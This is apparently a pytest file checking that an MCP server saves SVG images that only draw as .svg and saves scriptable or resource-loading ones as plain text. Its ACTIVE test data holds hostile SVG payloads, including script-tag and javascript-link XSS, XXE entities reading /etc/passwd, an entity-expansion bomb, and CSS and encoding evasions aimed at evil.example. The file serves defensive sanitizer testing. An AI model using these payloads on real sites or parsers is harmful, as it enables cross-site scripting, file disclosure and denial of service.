"""A picture of lines may hold a program: it is saved as one that a browser opens only if all it does is draw."""

import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client as McpClient

from scenario_mcp.sandbox.world import Draft, World
from scenario_mcp.server.app import create_server
from support.agents import made, text_of
from support.network import SandboxNetwork
from support.pictures import data_url, png
from support.servers import Machine

pytestmark = pytest.mark.anyio

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
BOMB = '<!DOCTYPE svg [<!ENTITY a "{0}{0}">{1}]>' + SVG.format("<text>&z;</text>")
ENTITIES = "".join(f'<!ENTITY {chr(b)} "{f"&{chr(b - 1)};" * 10}">' for b in range(ord("b"), ord("z") + 1))

HARMLESS: dict[str, str] = {
    "paths": SVG.format('<g fill="#f00" transform="translate (1,2) rotate(3)"><path d="M0 0h9v9z"/></g>'),
    "declared": '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by a vectorizer -->\n' + SVG.format("<rect/>"),
    "gradient": SVG.format(
        '<defs><linearGradient id="a"><stop offset="0" style="stop-color:rgb(1,2,3)"/></linearGradient></defs>'
        '<rect fill="url(#a)" clip-path="url(\'#b\')"/><use xlink:href="#a"/><use href="#a"/>'
    ),
    "styled": SVG.format("<style type='text/css'><![CDATA[.a{fill:url(#a);stroke:hsl(1,2%,3%)} /* red */]]></style>"),
    "picture inside": SVG.format(f'<image width="9" height="9" xlink:href="{data_url(png())}"/>'),
    "words": SVG.format('<title>a &amp; b &#106;</title><text xml:space="preserve" data-name="Layer 1">(hello)</text>'),
}
ACTIVE: dict[str, str] = {
    "script": SVG.format("<script>alert(1)</script>"),
    "script of xhtml": SVG.format('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script elsewhere": SVG.format('<script xlink:href="https://evil.example/a.js"/>'),
    "on load": SVG.replace("<svg", '<svg onload="alert(1)"').format(""),
    "ON click": SVG.format('<g ONCLICK="alert(1)"/>'),
    "link of javascript": SVG.format('<a xlink:href="javascript:alert(1)"><rect/></a>'),
    "link of escaped javascript": SVG.format('<a href="&#106;ava&#10;script:alert(1)"><rect/></a>'),
    "animated link": SVG.format('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    "use of another file": SVG.format('<use href="https://evil.example/a.svg#a"/>'),
    "use of data": SVG.format('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    "picture elsewhere": SVG.format('<image href="//evil.example/pixel.png"/>'),
    "picture of this machine": SVG.format('<image href="file:///etc/passwd"/>'),
    "svg in data": SVG.format('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    "html in data": SVG.format('<image href="data:text/html,hello"/>'),
    "foreign object": SVG.format('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    "filter that loads": SVG.format('<filter><feImage href="https://evil.example/a.png"/></filter>'),
    "style elsewhere": SVG.format('<rect style="fill:url(https://evil.example/a)"/>'),
    "style in CAPITALS": SVG.format("<rect style=\"fill:URL( 'HTTPS://evil.example/a')\"/>"),
    "style in an attribute": SVG.format('<rect mask="url(//evil.example/a#b)"/>'),
    "style that escapes": SVG.format(r'<rect style="fill:u\72l(https://evil.example/a)"/>'),
    "style between comments": SVG.format('<style>a{b:"/*";fill:url(https://evil.example/a);c:"*/"}</style>'),
    "style of a set": SVG.format("<rect style=\"mask:image-set('https://evil.example/a' 1x)\"/>"),
    "import": SVG.format('<style>@import "https://evil.example/a.css";</style>'),
    "font elsewhere": SVG.format("<style>@font-face{src:url(https://evil.example/f)}</style>"),
    "style sheet": '<?xml-stylesheet href="https://evil.example/a.css"?>' + SVG.format(""),
    "document type": '<!DOCTYPE svg SYSTEM "file:///etc/passwd">' + SVG.format(""),
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG.format("<text>&x;</text>"),
    "bomb": BOMB.format("ha" * 50, ENTITIES),
    "base": SVG.replace("<svg", '<svg xml:base="https://evil.example/"').format('<use href="#a"/>'),
    "other namespace": '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
    "html around": f"<html><body>{SVG.format('')}<script>alert(1)</script></body></html>",
    "html behind": SVG.format("") + "<script>alert(1)</script>",
    "another encoding": '<?xml version="1.0" encoding="ISO-2022-JP"?>' + SVG.format(""),
    "cut off": SVG.format("")[:-3],
    "deep": SVG.format("<g>" * 5_000 + "</g>" * 5_000),
    "endless": SVG.format(f"<text>{'a' * 10_000_000}</text>"),
    "endless style": SVG.format(f'<rect style="{"a" * 3_000_000}()"/>'),
}


@pytest.fixture
def shelf(tmp_path: Path) -> Path:
    return tmp_path / "Scenario"


@pytest.fixture
async def agent(network: SandboxNetwork, shelf: Path) -> AsyncIterator[McpClient]:
    services = Machine(network, shelf=shelf, previews=False).server()
    async with McpClient(create_server(services), raise_exceptions=True) as agent:
        yield agent


async def saved(agent: McpClient, world: World, content: bytes, mime_type: str) -> tuple[str | None, str]:
    """Save a file as a result and give its name, and what the agent was told."""
    asset = world.store(Draft(mime_type, lambda: content))
    result = await agent.call_tool("show-assets", {"assetIds": [asset.id], "save": True})
    path: Any = made(result)["assets"][0].get("path")
    if path is not None:
        assert Path(path).read_bytes() == content
    return path and Path(path).name, text_of(result)


async def test_an_svg_that_only_draws_is_saved_as_one(agent: McpClient, world: World) -> None:
    for case, text in HARMLESS.items():
        name, words = await saved(agent, world, text.encode(), "image/svg+xml")

        assert name is not None, case
        assert name.endswith(".svg"), (case, words)
        assert "Note:" not in words


async def test_an_svg_that_may_do_more_is_saved_as_text_and_said(agent: McpClient, world: World) -> None:
    for case, text in ACTIVE.items():
        began = time.monotonic()
        name, words = await saved(agent, world, text.encode(), "image/svg+xml; charset=utf-8")

        assert name is not None, case
        assert name.endswith(".svg.txt"), case
        assert "so it was saved as text, which no browser runs" in words
        assert time.monotonic() - began < 5, case


async def test_an_svg_in_an_odd_encoding_is_never_saved_as_one(agent: McpClient, world: World) -> None:
    for encoding in ("utf-16", "utf-7", "utf-32"):
        name, _ = await saved(agent, world, ACTIVE["script"].encode(encoding), "image/svg+xml")

        assert not (name or "").endswith(".svg"), encoding


HTML = b"<!doctype html><html><script>alert(1)</script></html>"
OTHERS = [
    *("text/html", "application/xhtml+xml", "text/xml", "application/xml", "text/javascript", "text/plain"),
    *("application/json", "model/obj", "video/mp4", "application/x-sh", "text/html, image/svg+xml", "x" * 500),
]


async def test_html_is_not_taken_for_an_svg(agent: McpClient, world: World, shelf: Path) -> None:
    for mime_type in ("image/svg+xml", "IMAGE/SVG+XML ;a=b"):
        name, words = await saved(agent, world, HTML, mime_type)

        assert name is None
        assert "what came is no SVG" in words
    assert list(shelf.rglob("*")) == []


async def test_nothing_is_saved_under_a_suffix_that_something_runs(agent: McpClient, world: World) -> None:
    for mime_type in OTHERS:
        name, _ = await saved(agent, world, HTML, mime_type)

        assert name is not None
        assert name.endswith((".txt", ".data.json", ".obj", ".mp4", ".bin")), mime_type
